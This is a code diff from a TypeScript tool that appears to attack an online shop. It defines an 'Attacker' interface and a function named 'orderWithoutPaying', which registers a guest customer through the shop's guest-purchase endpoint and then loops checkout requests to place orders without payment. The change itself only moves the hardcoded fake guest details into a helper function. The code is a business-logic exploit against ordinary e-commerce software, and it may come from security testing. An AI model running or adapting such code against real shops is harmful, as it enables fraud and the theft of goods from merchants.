@@ -3,7 +3,7 @@ import { Agent, request } from 'node:http'
 import type { Socket } from 'node:net'
 import { setTimeout as pause } from 'node:timers/promises'
 import { connectFrom, rawGet, type Target } from './connection.ts'
-import { cartBody, orderBody, PLACE } from './guest-calls.ts'
+import { cartBody, guestBody, orderBody, PLACE } from './guest-calls.ts'
 
 export interface Attacker {
   readonly target: Target
@@ -115,14 +115,7 @@ async function orderWithoutPaying({ target, from, signal, productId }: Attacker)
   }
   const post = (path: string, body: object) =>
     call({ path, method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
-  const { customer_id: customerId } = await post('/customers/buy/guest', {
-    name: 'Nadie',
-    lastName: 'Paga',
-    email: `nadie.${Date.now()}@correo.example`,
-    rut: '12.345.678-5',
-    telephone: '+56987654321',
-    birthdate: '1990-05-17',
-  })
+  const { customer_id: customerId } = await post('/customers/buy/guest', guestBody(12_345_678))
   const lines = [{ id: productId, amount: 12 }]
   for (let n = 0; !signal.aborted; n++) {
     const dates = await call({ path: `/checkout/scheduled_delivery?${new URLSearchParams(PLACE)}` })
